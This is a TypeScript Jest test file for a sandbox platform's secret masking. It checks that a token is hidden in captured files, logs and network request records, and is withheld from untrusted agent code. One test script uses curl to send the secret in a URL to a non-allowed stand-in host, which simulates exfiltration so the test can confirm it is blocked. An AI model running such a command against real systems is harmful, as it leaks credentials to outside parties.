import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { LogLine_Phase, NetworkPolicy, NetworkRule } from '@heddle/contracts';
import type { CheckOutcome, SandboxOwnerRef } from '@heddle/contracts/workflows';
import { HeddleError } from '@heddle/domain';
import { useTemporaryDirectories } from '@heddle/testing';
import { SetupAttempts } from '../../testing/setup-attempts.js';
import { capture } from '../phases/capture.phase.js';
import { runChecks } from '../phases/run-checks.phase.js';
import { runTurn } from '../phases/run-turn.phase.js';
import { SandboxSecrets } from './sandbox-secrets.js';

const VALUE = 'hunter2-hunter2-hunter2';
const ENCODED = Buffer.from(VALUE).toString('base64');

let on: SetupAttempts;

beforeAll(async () => {
  on = await SetupAttempts.start(await temporary('secrets'));
});

afterAll(async () => {
  expect(await on.harness.stop()).toEqual([]);
});

const temporary = useTemporaryDirectories();

const withToken = (work: () => Promise<void>): Promise<void> =>
  on.harness.withSecret({ name: 'TOKEN', value: VALUE }, work);

const linesOf = (owner: SandboxOwnerRef, phase: LogLine_Phase): string[] =>
  on.harness.publisher.lines(owner.id).flatMap((line) => (line.phase === phase ? [line.text] : []));

describe("a secret's value", () => {
  it.each([
    ['raw', VALUE],
    ['base64', ENCODED],
  ])('in a captured tree is a notice by its name, and the bytes are as they were: %s', async (id, text) => {
    await withToken(async () => {
      const { context, signal, store } = on.harness;
      const script = `printf %s ${text} > held; echo fine > clean; ln -s ${text} link; echo x > name-${VALUE}`;
      const owner = on.attempt(`held-${id}`, script, {});
      await on.made(owner);
      await runTurn(context, owner, 1, signal);
      const result = await capture(context, { owner, turn: 1, partial: false }, signal);
      expect(result).toMatchObject({ holdsSecret: true });
      expect(await store.read(result.commit, 'held')).toBe(text);
      const header = store.stored.find(({ attemptId, final }) => final && attemptId === owner.id);
      const notices = header?.notices.filter(({ reason }) => reason === 'SECRET_IN_CHANGE') ?? [];
      expect(notices.map(({ path }) => path).sort()).toEqual(['held', 'link', 'name-***']);
      for (const { message } of notices) expect(message).toContain('the secret TOKEN;');
      expect(JSON.stringify(header)).not.toContain(VALUE);
      await on.released(owner);
    });
  });

  it('is hidden in the lines of every process, of the platform, and in the record of requests', async () => {
    await withToken(async () => {
      const { context, signal, publisher, requests } = on.harness;
      const network = NetworkPolicy.create();
      network.agent = [{ ...NetworkRule.create(), host: 'allowed.test' }];
      const script = [
        `echo "v=${VALUE}"; echo ${VALUE} | base64 -w0`,
        `echo; curl -s -m 20 -o /dev/null http://other.test/${VALUE} || true`,
      ].join('\n');
      const checks = [on.harness.check('shows', `echo check ${VALUE}`)];
      const setup = on.environment({ script: 'echo "setup $TOKEN"' });
      const owner = on.attempt('masked', script, { ...setup, network, checks });
      await on.made(owner);
      await runTurn(context, owner, 1, signal);
      const { commit } = await capture(context, { owner, turn: 1, partial: false }, signal);
      await runChecks(context, { owner, turn: 1, commit }, signal);
      await on.released(owner);
      expect(linesOf(owner, LogLine_Phase.SETUP)).toContain('setup ***');
      expect(linesOf(owner, LogLine_Phase.AGENT).slice(0, 1)).toEqual(['v=***']);
      expect(linesOf(owner, LogLine_Phase.CHECK)).toEqual(['check ***']);
      expect(publisher.texts(owner.id).join('\n')).not.toContain(ENCODED.slice(0, 20));
      const refused = (requests.get(owner.id) ?? []).filter(({ host }) => host === 'other.test');
      expect(refused.map(({ path }) => path)).toContain('/***');
      const header = on.harness.store.stored.find(({ attemptId, final }) => final && attemptId === owner.id);
      expect(JSON.stringify([header, ...(requests.get(owner.id) ?? [])])).not.toContain(VALUE);
    });
  });

  it('that is told to nobody any more hides all that is left, and only where there was one', async () => {
    const { context, signal } = on.harness;
    const over = new SandboxSecrets({
      secrets: () => Promise.reject(new HeddleError('ATTEMPT_ENDED', 'over', { metadata: {} })),
    });
    const masked = async (owner: SandboxOwnerRef): Promise<string> => {
      await on.made(owner);
      await context.secrets.of(await context.sandboxes.get(owner), signal);
      const mask = await over.mask(await context.sandboxes.get(owner));
      await on.turnOf(owner);
      return mask(Buffer.from('any line')).toString();
    };
    expect(await masked(on.attempt('none', 'true', {}))).toBe('any line');
    await withToken(async () => {
      expect(await masked(on.attempt('some', 'true', {}))).toBe('***');
    });
  });
});

describe('the secrets of a set-up', () => {
  const script = 'mkdir node_modules; if [ -n "${TOKEN:-}" ]; then echo with; else echo without; fi > node_modules/how';

  it("are withheld over an agent's tree, which runs its own code, and the log says so", async () => {
    await withToken(async () => {
      const checks = [on.harness.check('how', 'cat node_modules/how')];
      const spec = { ...on.environment({ script }), checks };
      const owner = on.attempt('untrusted', 'cat node_modules/how; echo mine > package-lock.json', spec);
      expect(states(await on.checked(owner))).toEqual(['PASSED']);
      expect(linesOf(owner, LogLine_Phase.AGENT)).toEqual(['with']);
      expect(linesOf(owner, LogLine_Phase.CHECK)).toEqual(['without']);
      expect(on.setupLog(owner)).toContain("runs without the environment's secrets");
    });
  });

  it('are there over what a reviewer has approved', async () => {
    await withToken(async () => {
      const { harness } = on;
      const commit = await on.commit('echo approved > package-lock.json');
      const spec = { ...on.environment({ script }), commit, checks: [harness.check('how', 'cat node_modules/how')] };
      const owner = { ...on.attempt('landing', 'true', spec), kind: 'LANDING' as const };
      expect(states(await runChecks(harness.context, { owner, turn: 0, commit }, harness.signal))).toEqual(['PASSED']);
      await on.released(owner);
      expect(linesOf(owner, LogLine_Phase.CHECK)).toEqual(['with']);
      expect(on.setupLog(owner)).not.toContain("runs without the environment's secrets");
    });
  });
});

function states({ checks }: { readonly checks: readonly CheckOutcome[] }): string[] {
  return checks.map(({ state }) => state);
}
